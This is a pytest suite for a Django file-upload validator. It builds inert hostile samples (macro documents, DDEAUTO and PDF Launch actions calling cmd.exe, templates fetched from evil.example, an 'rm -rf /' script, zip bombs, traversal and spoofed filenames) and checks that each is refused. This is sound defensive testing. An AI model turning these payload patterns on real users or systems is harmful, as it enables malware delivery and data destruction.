"""Uploads: every hostile file is refused with words, every harmless one is kept byte for byte."""

from __future__ import annotations

import io
import struct
import zipfile

import docx
import openpyxl
import pikepdf
import pytest
from PIL import Image
from pytest_django import Settings

from gongkai.foundation.files.models import StoredFile
from gongkai.foundation.files.selectors import inline
from gongkai.foundation.files.services import accept, content_of, store
from gongkai.foundation.refusals import RefusedError

pytestmark = pytest.mark.django_db


def refused(content: bytes, name: str, purpose: str = "attachment") -> list[str]:
    """Codes of all problems; nothing may have been written."""
    with pytest.raises(RefusedError) as caught:
        accept(content, name, purpose=purpose)
    assert not StoredFile.objects.exists()
    assert all(len(problem.text) > 5 for problem in caught.value.problems)
    return [problem.code for problem in caught.value.problems]


def word(*, tweak: dict[str, bytes] | None = None, text: str = "关于水源地的通知") -> bytes:
    """A docx without author; ``tweak`` adds or replaces inner files."""
    document = docx.Document()
    document.core_properties.author = ""
    document.core_properties.last_modified_by = ""
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return rezip(out.getvalue(), tweak or {})


def rezip(content: bytes, tweak: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for info in old.infolist():
            if info.filename not in tweak:
                new.writestr(info.filename, old.read(info))
        for name, data in tweak.items():
            new.writestr(name, data)
    return out.getvalue()


def archive(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", 8) as new:
        for name, data in files.items():
            new.writestr(name.replace("__", "."), data)
    return out.getvalue()


def pdf(**root: object) -> bytes:
    out = io.BytesIO()
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    for key, value in root.items():
        made.Root[f"/{key}"] = value
    made.save(out)
    return out.getvalue()


def picture(form: str = "PNG", size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, form)
    return out.getvalue()


def sheet() -> bytes:
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (word(), "通知.docx", "docx"),
        (sheet(), "表.xlsx", "xlsx"),
        (pdf(), "通知.pdf", "pdf"),
        (picture(), "图.png", "png"),
        (picture("JPEG"), "图.jpg", "jpeg"),
        (picture("WEBP"), "图.webp", "webp"),
        ("项目,金额\n一,2\n".encode("gb18030"), "表.csv", "csv"),
        ("正文".encode(), "说明.TXT", "txt"),
        (archive(a__txt=b"abc", b__pdf=pdf()), "附件.zip", "zip"),
    ],
)
def test_harmless_files_are_kept_as_they_are(content: bytes, name: str, kind: str) -> None:
    file = accept(content, name, purpose="attachment")
    assert file.kind == kind and content_of(file) == content


def rels(target: str, kind: str) -> bytes:
    base = "http://schemas.openxmlformats.org"
    return (
        f'<Relationships xmlns="{base}/package/2006/relationships"><Relationship Id="rId9" '
        f'Type="{base}/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


SETTINGS_RELS = "word/_rels/settings.xml.rels"
DOCUMENT = "word/document.xml"


def document(inner: str) -> dict[str, bytes]:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    text = f'<w:document xmlns:w="{space}"><w:body>{inner}</w:body></w:document>'
    return {DOCUMENT: text.encode()}


def types(old: str, new: str, content: bytes) -> bytes:
    """The file with another main type declared."""
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        declared = opened.read("[Content_Types].xml").decode()
    return rezip(content, {"[Content_Types].xml": declared.replace(old, new).encode()})


def docm() -> bytes:
    return types(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
        word(),
    )


def bomb() -> bytes:
    """A docx whose text unfolds beyond the limit of one part."""
    return word(tweak={DOCUMENT: b" " * (61 * 1024 * 1024)})


HOSTILE = [
    (docm(), "a.docm", "file_macro"),
    (docm(), "a.docx", "file_macro"),
    (word(tweak={"word/vbaProject.bin": b"x"}), "a.docx", "file_macro"),
    (rezip(sheet(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), "a.xlsx", "file_macro"),
    (word(tweak={SETTINGS_RELS: rels("http://evil.example/t.dotm", "attachedTemplate")}),
     "a.docx", "file_external"),
    (word(tweak={SETTINGS_RELS: rels("\\\\server\\t.dotm", "attachedTemplate")}),
     "a.docx", "file_external"),
    (word(tweak={"word/_rels/document.xml.rels": rels("https://evil.example/x.html", "oleObject")}),
     "a.docx", "file_external"),
    (word(tweak=document('<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>')),
     "a.docx", "file_script"),
    (word(tweak={"word/activeX/activeX1.xml": b"<x/>"}), "a.docx", "file_script"),
    (word(tweak={"word/embeddings/a.bin": b"MZ" + b"\0" * 80}), "a.docx", "file_script"),
    (word(tweak={DOCUMENT: b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "a.docx", "file_damaged"),
    (word(tweak={"../../evil.txt": b"x"}), "a.docx", "file_script"),
    (bomb(), "a.docx", "file_bomb"),
    (word()[:900], "a.docx", "file_damaged"),
    (archive(run__js=b"alert(1)"), "a.zip", "file_script"),
    (archive(notes__txt=b"MZ" + b"\0" * 80), "a.zip", "file_script"),
    (archive(a__docx=docm()), "a.zip", "file_macro"),
    (archive(a__pdf=pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))),
     "a.zip", "file_script"),
    (archive(a__zip=archive(b__zip=archive(c__txt=b"x"))), "a.zip", "file_bomb"),
    (archive(a__rar=b"Rar!\x1a\x07"), "a.zip", "file_kind"),
    (pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")),
     "a.pdf", "file_script"),
    (pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
     "a.pdf", "file_script"),
    (pdf(AcroForm=pikepdf.Dictionary(XFA="x", Fields=pikepdf.Array())), "a.pdf", "file_script"),
    (b"%PDF-1.7\nnothing", "a.pdf", "file_damaged"),
    (b"<html><script>alert(1)</script></html>", "a.html", "file_script"),
    (b"<html><script>alert(1)</script></html>", "a.txt", "file_kind"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "a.svg", "file_script"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "a.png", "file_script"),
    (b"#!/bin/sh\nrm -rf /\n", "a.txt", "file_script"),
    (b"MZ" + b"\0" * 200, "a.pdf", "file_script"),
    (b"\x7fELF" + b"\0" * 200, "a.jpg", "file_script"),
    (pdf(), "a.docx", "file_mismatch"),
    (picture(), "a.jpg", "file_mismatch"),
    (picture(), "a", "file_mismatch"),
    (picture("BMP"), "a.bmp", "file_kind"),
    (picture() + archive(a__txt=b"x"), "a.png", "file_script"),
    (picture()[:40], "a.png", "file_damaged"),
    (b"", "a.pdf", "file_empty"),
    (pdf(), "a\u202efdp.exe", "file_name"),
    (pdf(), "a\r\nb.pdf", "file_name"),
    (pdf(), "../../etc/a.pdf", "file_name"),
    (pdf(), "长" * 200 + ".pdf", "file_name"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("content", "name", "code"), HOSTILE, ids=[f"{i}-{c}" for i, (_b, _n, c) in enumerate(HOSTILE)]
)
def test_hostile_files_are_refused_with_words(content: bytes, name: str, code: str) -> None:
    assert code in refused(content, name)


def test_the_message_says_what_the_file_really_is() -> None:
    with pytest.raises(RefusedError) as caught:
        accept(pdf(), "通知.docx", purpose="attachment")
    text = caught.value.problems[0].text
    assert ".docx" in text and "PDF" in text and ".pdf" in text


def test_an_embedded_program_in_a_pdf_is_refused_and_harmless_data_noted() -> None:
    for inner, name, bad in ((b"MZ" + b"\0" * 70, "data.xml", True), (b"<a/>", "x.exe", True)):
        with pikepdf.open(io.BytesIO(pdf())) as made:
            made.attachments[name] = pikepdf.AttachedFileSpec(made, inner, filename=name)
            out = io.BytesIO()
            made.save(out)
        assert bad and "file_script" in refused(out.getvalue(), "a.pdf")
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.attachments["a.xml"] = pikepdf.AttachedFileSpec(made, b"<a/>", filename="a.xml")
        out = io.BytesIO()
        made.save(out)
    assert "embedded_files" in accept(out.getvalue(), "a.pdf", purpose="attachment").notes


def test_encrypted_files_are_told_so() -> None:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    assert refused(out.getvalue(), "a.pdf") == ["file_encrypted"]
    locked = bytearray(archive(a__txt=b"x"))
    locked[6] |= 1
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    assert refused(bytes(locked), "a.zip") == ["file_encrypted"]


def test_pdf_a_stays_what_was_signed_and_is_noted() -> None:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        with made.open_metadata() as data:
            data["pdfaid:part"], data["pdfaid:conformance"] = "2", "B"
        made.save(out)
    file = accept(out.getvalue(), "正本.pdf", purpose="attachment")
    assert file.pdfa == "2b" and content_of(file) == out.getvalue()


def test_a_scan_without_text_is_noted() -> None:
    assert "scan_only" in accept(pdf(), "a.pdf", purpose="attachment").notes


def test_what_authors_overlook_is_noted_and_not_removed() -> None:
    made = docx.Document()
    made.core_properties.author = "王某"
    paragraph = made.add_paragraph("正文")
    made.add_comment(paragraph.runs, text="这里要改", author="李某")
    out = io.BytesIO()
    made.save(out)
    content = rezip(out.getvalue(), {})
    file = accept(content, "a.docx", purpose="attachment")
    assert {"author", "comments"} <= set(file.notes) and content_of(file) == content
    inner = '<w:p><w:ins w:id="1" w:author="x"><w:r><w:rPr><w:vanish/></w:rPr></w:r></w:ins></w:p>'
    notes = accept(word(tweak=document(inner)), "b.docx", purpose="attachment").notes
    assert {"tracked_changes", "hidden_text"} <= set(notes)
    book = openpyxl.Workbook()
    book.create_sheet("底稿").sheet_state = "hidden"
    out = io.BytesIO()
    book.save(out)
    assert "hidden_sheets" in accept(out.getvalue(), "a.xlsx", purpose="attachment").notes


@pytest.mark.parametrize(
    ("content", "name", "purpose", "taken"),
    [
        (b"<!doctype html><html><body>x</body></html>", "a.html", "report", True),
        (b"<!doctype html><html><body>x</body></html>", "a.html", "attachment", False),
        (pdf(), "a.pdf", "picture", False),
        (picture(), "a.png", "picture", True),
        (b'{"a": 1}', "a.json", "import", True),
        (b"{", "a.json", "import", False),
        (picture(), "a.png", "import", False),
    ],
)
def test_each_purpose_admits_its_own_kinds(
    content: bytes, name: str, purpose: str, taken: bool
) -> None:
    if taken:
        assert accept(content, name, purpose=purpose).kind
    else:
        assert refused(content, name, purpose)


def test_sizes_are_limited_by_purpose(settings: Settings) -> None:
    settings.PICTURE_LIMIT_BYTES = 10
    assert refused(picture(), "a.png", "picture") == ["file_too_large"]
    assert accept(picture(), "a.png", purpose="attachment").kind == "png"


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_decoded() -> None:
    content = bytearray(picture())
    content[16:24] = struct.pack(">II", 60_000, 60_000)
    assert refused(bytes(content), "a.png") == ["file_bomb"]


def test_shown_inline_only_in_a_sandbox_and_only_pictures_and_pdf() -> None:
    for content, name, shown in (
        (picture(), "图.png", "inline"),
        (pdf(), "a.pdf", "inline"),
        (word(), "a.docx", "attachment"),
    ):
        file = accept(content, name, purpose="attachment")
        response = inline(file, name)
        assert response["Content-Disposition"].startswith(shown)
        assert "sandbox" in response["Content-Security-Policy"]
        assert response["X-Content-Type-Options"] == "nosniff"
    unseen = store(picture("GIF"), "a.gif")
    assert inline(unseen, "a.gif")["Content-Disposition"].startswith("attachment")
